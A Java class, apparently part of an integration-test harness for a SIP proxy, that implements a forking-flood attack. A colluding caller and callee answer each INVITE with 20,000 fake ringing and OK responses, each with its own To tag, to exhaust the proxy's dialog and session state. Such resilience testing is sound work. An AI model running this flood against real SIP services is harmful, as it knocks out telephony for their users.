package io.carillon.it.attack;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.DatagramChannel;
import java.nio.charset.StandardCharsets;
import java.util.concurrent.locks.LockSupport;
import org.jspecify.annotations.Nullable;

/**
 * A caller and a callee with one mind: the callee answers each INVITE that a proxy brings with
 * thousands of To tags, each a dialog and a session of the proxy if it believes them. One in four
 * rings, the others answer.
 */
final class MadeUpForks extends Attack {
    /** Responses to one INVITE. */
    private static final int TAGS = 20_000;

    private static final int RINGING = TAGS / 4;
    private static final int LARGEST = 65_535;
    private static final long WAIT_NANOS = 200_000;

    private final int perSecond;
    private final String padding;

    /**
     * @param perSecond responses
     * @param bytes of each beyond what it needs
     */
    MadeUpForks(String id, String what, int perSecond, int bytes) {
        super(id, what, Door.SIP);
        this.perSecond = perSecond;
        this.padding = bytes == 0 ? "" : "X-Padding: " + "x".repeat(bytes) + "\n";
    }

    @Override
    int outlivesSeconds() {
        return Prey.SESSION_SECONDS;
    }

    @Override
    long run(Target target, long untilNanos) throws IOException {
        long sent = 0;
        try (DatagramChannel caller = target.datagrams(0);
                DatagramChannel callee = target.datagrams(1)) {
            InetSocketAddress there = (InetSocketAddress) callee.getLocalAddress();
            String text =
                    AttackTexts.request(
                                    "INVITE",
                                    PreyServlet.CALLEE
                                            + ": sip:callee@"
                                            + there.getHostString()
                                            + ":"
                                            + there.getPort()
                                            + "\n")
                            .replace("INVITE sip:victim-########@", "INVITE sip:prey@");
            Template invites = new Template(text);
            Pace pace = new Pace(perSecond, untilNanos);
            @Nullable Answers answers = null;
            // An attack that ran before had numbers of its own: a repeated INVITE is absorbed.
            int calls = target.network() << 16;
            for (int due = pace.due(); due >= 0; due = pace.due()) {
                if (answers == null || answers.made == TAGS) {
                    caller.send(ByteBuffer.wrap(invites.next(calls++)), target.server());
                    answers = answersTo(callee, untilNanos);
                }
                for (int i = 0; answers != null && i < due && answers.made < TAGS; i++, sent++) {
                    callee.send(ByteBuffer.wrap(answers.next()), target.server());
                }
            }
        }
        return sent;
    }

    /** Waits for the INVITE; null when it does not come in time. */
    private @Nullable Answers answersTo(DatagramChannel callee, long untilNanos)
            throws IOException {
        ByteBuffer buffer = ByteBuffer.allocate(LARGEST);
        while (System.nanoTime() - untilNanos < 0) {
            buffer.clear();
            if (callee.receive(buffer) == null) {
                LockSupport.parkNanos(WAIT_NANOS);
                continue;
            }
            String got =
                    new String(buffer.array(), 0, buffer.position(), StandardCharsets.ISO_8859_1);
            if (got.startsWith("INVITE ")) {
                return new Answers(got, padding);
            }
        }
        return null;
    }

    /** The responses to one INVITE. */
    static final class Answers {
        private final Template ringing;
        private final Template answering;
        int made;

        Answers(String invite, String padding) {
            ringing = new Template(response("180 Ringing", invite, padding));
            answering = new Template(response("200 OK", invite, padding));
        }

        private static String response(String status, String invite, String padding) {
            StringBuilder text = new StringBuilder("SIP/2.0 " + status + "\n");
            for (String line : invite.split("\r\n", -1)) {
                String name = line.substring(0, Math.max(0, line.indexOf(':')));
                switch (name) {
                    case "Via", "From", "Call-ID", "CSeq", "Record-Route" ->
                            text.append(line).append('\n');
                    case "To" -> text.append(line).append(";tag=########\n");
                    default -> {}
                }
            }
            return text.append("Contact: <sip:callee@127.0.0.1:9>\n")
                    .append(padding)
                    .append("Content-Length: 0\n\n")
                    .toString();
        }

        byte[] next() {
            return (made < RINGING ? ringing : answering).next(made++);
        }
    }
}
